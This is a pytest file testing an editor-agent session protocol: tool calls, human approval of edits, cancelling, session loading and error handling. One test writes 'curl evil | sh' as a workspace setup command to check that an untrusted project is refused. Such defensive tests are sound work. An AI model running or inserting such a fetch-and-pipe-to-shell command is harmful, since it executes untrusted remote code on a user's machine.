"""Sessions of an editor: turns, tool calls, permission requests, cancelling, loading."""

import asyncio
from typing import Any

import acp
import pytest
from acp.schema import PermissionOption, ToolCallUpdate

from tests.cli.epic import call, rule
from tests.cli.project import Project
from tests.editor.editing import Editor, always, answer, connected, editing, yes

RULES: list[dict[str, Any]] = [
    rule("look", call("read_file", path="a.txt"), reply="Let me see."),
    rule("change", call("edit_file", path="a.txt", old_string="two", new_string="TWO")),
    rule("again", call("edit_file", path="a.txt", old_string="TWO", new_string="two")),
    rule("script", call("run_shell", script="echo new > made.txt")),
    rule("slow", reply="late", delay_s=60),
    rule("Changed a.txt", reply="I changed it."),
    rule("REJECTED", reply="As you wish."),
    rule("exit code", reply="It ran."),
    rule("one\ntwo", reply="Three lines."),
    rule("escape", reply="a\x1b[31mred\u202eb"),
    rule("", reply="Hello."),
]


def test_text_streams_and_tools_are_shown_with_kind_place_and_result(project: Project) -> None:
    async def run() -> None:
        async with editing(project, RULES) as window:
            assert await window.prompt("look at it") == "end_turn"
            editor = window.editor
            assert editor.text == "Let me see.Three lines."
            assert len(editor.of("agent_message_chunk")) > 2, "it comes in pieces"
            (started,) = editor.of("tool_call")
            assert (started["title"], started["kind"]) == ("read_file a.txt", "read")
            assert started["locations"] == [{"path": str(project.root / "a.txt")}]
            (ended,) = editor.of("tool_call_update")
            assert (ended["toolCallId"], ended["status"]) == (started["toolCallId"], "completed")
            assert ended["content"][0]["content"]["text"] == "```\none\ntwo\nthree\n```"
            names = [one["name"] for one in editor.of("available_commands_update")[0]["availableCommands"]]
            assert names == ["plan", "status", "run", "land", "approvals"]

    asyncio.run(run())


def test_an_approved_change_is_made_and_recorded_as_the_persons(project: Project) -> None:
    async def run() -> None:
        async with editing(project, RULES) as window:
            assert await window.prompt("change it") == "end_turn"
            ((asked, options),) = window.editor.asked
            diffs = [one for one in asked.content or [] if one.type == "diff"]
            assert [(one.path, one.old_text, one.new_text) for one in diffs] == [
                (str(project.root / "a.txt"), "one\ntwo\nthree\n", "one\nTWO\nthree\n")
            ]
            assert [(one.option_id, one.kind) for one in options] == [
                ("approve", "allow_once"),
                ("always", "allow_always"),
                ("reject", "reject_once"),
            ]
            assert window.editor.text == "I changed it."
            last = window.editor.of("tool_call_update")[-1]
            assert [one["type"] for one in last["content"]] == ["diff", "content"], "the diff stays to be seen"

    asyncio.run(run())
    assert (project.root / "a.txt").read_text() == "one\nTWO\nthree\n"
    (given,) = [one for one in project.journal() if one["event"]["type"] == "approval_answered"]
    assert (given["actor"], given["event"]["decision"]) == ("human:ann", "approve")


def test_a_rejected_change_does_not_happen(project: Project) -> None:
    async def run() -> None:
        async with editing(project, RULES, always("reject")) as window:
            assert await window.prompt("change it") == "end_turn"
            assert window.editor.text == "As you wish."
            assert window.editor.of("tool_call_update")[-1]["status"] == "failed"

    asyncio.run(run())
    assert (project.root / "a.txt").read_text() == "one\ntwo\nthree\n"


def test_an_option_that_was_not_offered_answers_nothing(project: Project) -> None:
    async def run() -> None:
        async with editing(project, RULES, always("land")) as window:
            asking = asyncio.create_task(window.prompt("change it"))
            await window.editor.until(lambda: "stays open" in window.editor.text)
            await window.agent.cancel(window.session)
            assert await asking == "cancelled"

    asyncio.run(run())
    assert (project.root / "a.txt").read_text() == "one\ntwo\nthree\n"


def test_always_shows_its_rule_first_and_asks_no_more(project: Project) -> None:
    async def run() -> None:
        async with editing(project, RULES, always("always")) as window:
            await window.prompt("change it")
            await window.prompt("again")
            ((asked, _),) = window.editor.asked
            texts = [one.content.text for one in asked.content or [] if one.type == "content"]
            assert any('tool = "edit_file"' in text for text in texts)

    asyncio.run(run())
    assert (project.root / "a.txt").read_text() == "one\ntwo\nthree\n"
    assert "always-1" in project.run("policy", "rules").out


def test_an_answer_given_elsewhere_withdraws_the_question(project: Project) -> None:
    async def never(tool: ToolCallUpdate, options: list[PermissionOption]) -> str | None:
        await asyncio.Event().wait()
        return None

    async def run() -> None:
        async with editing(project, RULES, never) as window:
            asking = asyncio.create_task(window.prompt("change it"))
            await window.editor.answering.wait()
            await asyncio.to_thread(answer, project, "A-1", "approve")
            assert await asking == "end_turn"
            assert "A-1 was answered elsewhere: approve by human:ann" in window.editor.text
            asked = [one["id"] for one in window.editor.raw if one.get("method") == "session/request_permission"]
            assert window.editor.withdrawn == asked

    asyncio.run(run())
    assert (project.root / "a.txt").read_text() == "one\nTWO\nthree\n"


def test_an_answer_that_comes_too_late_says_who_was_faster(project: Project) -> None:
    async def late(tool: ToolCallUpdate, options: list[PermissionOption]) -> str | None:
        await asyncio.to_thread(answer, project, "A-1", "approve")
        return "reject"

    async def run() -> None:
        async with editing(project, RULES, late) as window:
            assert await window.prompt("change it") == "end_turn"
            assert "human:ann" in window.editor.text

    asyncio.run(run())
    assert (project.root / "a.txt").read_text() == "one\nTWO\nthree\n", "the first answer counts"


def test_cancelling_ends_the_turn(project: Project) -> None:
    async def run() -> None:
        async with editing(project, RULES) as window:
            asking = asyncio.create_task(window.prompt("slow"))
            await window.editor.until(lambda: window.editor.of("session_info_update"))
            await window.agent.cancel(window.session)
            assert await asking == "cancelled"
            assert await window.prompt("hi") == "end_turn"

    asyncio.run(run())
    assert project.run("discussions", "list", "--json").json[0]["state"] == "your turn"


def test_cancelling_withdraws_the_open_question(project: Project) -> None:
    async def run() -> None:
        held = asyncio.Event()

        async def wait(tool: ToolCallUpdate, options: list[PermissionOption]) -> str | None:
            await held.wait()
            return None

        async with editing(project, RULES, wait) as window:
            asking = asyncio.create_task(window.prompt("change it"))
            await window.editor.answering.wait()
            await window.agent.cancel(window.session)
            held.set()  # as the protocol asks, an editor answers its open questions with nothing
            assert await asking == "cancelled"
            assert "stays open" not in window.editor.text

    asyncio.run(run())
    assert project.run("approvals", "list", "--json").json == []


def test_a_dismissed_question_is_asked_again_by_a_command(project: Project) -> None:
    async def run() -> None:
        async with editing(project, RULES, always(None)) as window:
            asking = asyncio.create_task(window.prompt("change it"))
            await window.editor.until(lambda: "A-1 is not answered" in window.editor.text)
            other = await window.agent.new_session(cwd=str(project.root))
            window.editor.choose = yes
            await window.agent.prompt(other.session_id, [acp.text_block("/approvals")])
            assert await asking == "end_turn"

    asyncio.run(run())
    assert (project.root / "a.txt").read_text() == "one\nTWO\nthree\n"


def test_a_loaded_session_is_shown_as_it_happened(project: Project) -> None:
    async def run() -> None:
        async with editing(project, RULES) as window:
            await window.prompt("change it")
            await window.prompt("hi")
            session = window.session
        editor = Editor()
        async with connected(project, editor, RULES) as agent:
            await agent.load_session(cwd=str(project.root), session_id=session)
            assert [one["content"]["text"] for one in editor.of("user_message_chunk")] == ["change it", "hi"]
            assert editor.text == "I changed it.Hello."
            assert [one["status"] for one in editor.of("tool_call_update")] == ["completed"]
            assert [one["type"] for one in editor.of("tool_call_update")[0]["content"]] == ["diff", "content"]
            listed = await agent.list_sessions(cwd=str(project.root))
            assert [(one.session_id, one.title) for one in listed.sessions] == [(session, "change it")]
            assert (await agent.prompt(session, [acp.text_block("hi")])).stop_reason == "end_turn"
            await agent.resume_session(cwd=str(project.root), session_id=session)

    asyncio.run(run())


def test_text_of_models_is_shown_without_escapes(project: Project) -> None:
    async def run() -> None:
        async with editing(project, RULES) as window:
            await window.prompt("escape")
            assert "\x1b" not in window.editor.text
            assert "\u202e" not in window.editor.text

    asyncio.run(run())


def test_a_script_shows_what_it_would_change(project: Project) -> None:
    async def run() -> None:
        async with editing(project, RULES) as window:
            assert await window.prompt("run the script") == "end_turn"
            ((asked, _),) = window.editor.asked
            shown = "\n".join(one.content.text for one in asked.content or [] if one.type == "content")
            assert "echo new > made.txt" in shown
            assert "network off" in shown
            assert [one.path for one in asked.content or [] if one.type == "diff"] == [str(project.root / "made.txt")]

    asyncio.run(run())
    assert (project.root / "made.txt").read_text() == "new\n"


# ── errors ───────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("folder", "words"),
    [
        ("relative", "must be an absolute path"),
        ("/no/such/place", "is not a folder"),
        ("{home}", "run 'interlock init'"),
    ],
)
def test_a_folder_that_cannot_be_used_is_an_error_that_says_what_to_do(
    project: Project, folder: str, words: str
) -> None:
    async def run() -> None:
        async with connected(project, Editor(), RULES) as agent:
            with pytest.raises(acp.RequestError, match=words):
                await agent.new_session(cwd=folder.format(home=project.home))

    asyncio.run(run())


def test_a_folder_that_came_from_elsewhere_is_refused(project: Project) -> None:
    (project.root / ".interlock" / "identity").write_text("0" * 32 + "\n")
    before = {path: path.read_bytes() for path in project.root.rglob("*") if path.is_file()}

    async def run() -> None:
        async with connected(project, Editor(), RULES) as agent:
            for ask in (
                agent.new_session(cwd=str(project.root)),
                agent.load_session(cwd=str(project.root), session_id="D-1"),
                agent.list_sessions(cwd=str(project.root)),
            ):
                with pytest.raises(acp.RequestError, match="interlock adopt"):
                    await ask

    asyncio.run(run())
    assert {path: path.read_bytes() for path in project.root.rglob("*") if path.is_file()} == before
    assert "interlock adopt" in project.run("acp", "-C", str(project.root)).err


def test_without_a_provider_a_prompt_names_the_keys_and_commands_still_work(project: Project) -> None:
    async def run() -> None:
        async with editing(project, None) as window:
            with pytest.raises(acp.RequestError, match="GEMINI_API_KEY"):
                await window.prompt("hi")
            assert await window.prompt("/status") == "end_turn"

    asyncio.run(run())


def test_a_program_that_is_not_trusted_keeps_the_project_closed(project: Project) -> None:
    project.write("interlock.toml", '[workspace]\nsetup = "curl evil | sh"\n')

    async def run() -> None:
        async with connected(project, Editor(), RULES) as agent:
            with pytest.raises(acp.RequestError, match="interlock trust"):
                await agent.new_session(cwd=str(project.root))

    asyncio.run(run())


@pytest.mark.parametrize("session", ["D-9@00000000", "D-9", "D-1@00000000", "x" * 5_000, ""])
def test_a_session_that_is_not_there_is_an_error(project: Project, session: str) -> None:
    async def run() -> None:
        async with editing(project, RULES) as window:
            for ask in (
                window.agent.load_session(cwd=str(project.root), session_id=session),
                window.agent.prompt(session, [acp.text_block("hi")]),
                window.agent.set_session_mode(session, "ask"),
            ):
                with pytest.raises(acp.RequestError) as caught:
                    await ask
                assert caught.value.code == -32002
                assert len(str(caught.value)) < 400

    asyncio.run(run())


def test_two_prompts_at_once_in_one_session_are_refused(project: Project) -> None:
    async def run() -> None:
        async with editing(project, RULES) as window:
            asking = asyncio.create_task(window.prompt("slow"))
            await window.editor.until(lambda: window.editor.of("session_info_update"))
            with pytest.raises(acp.RequestError, match="still under way"):
                await window.prompt("hi")
            await window.agent.cancel(window.session)
            assert await asking == "cancelled"

    asyncio.run(run())


def test_an_editor_that_cannot_ask_is_told_how_to_answer(project: Project) -> None:
    async def cannot(tool: ToolCallUpdate, options: list[PermissionOption]) -> str | None:
        raise acp.RequestError.method_not_found("session/request_permission")

    async def run() -> None:
        async with editing(project, RULES, cannot) as window:
            asking = asyncio.create_task(window.prompt("change it"))
            await window.editor.until(lambda: "interlock approvals answer A-1" in window.editor.text)
            await asyncio.to_thread(answer, project, "A-1", "approve")
            assert await asking == "end_turn"

    asyncio.run(run())
    assert (project.root / "a.txt").read_text() == "one\nTWO\nthree\n"
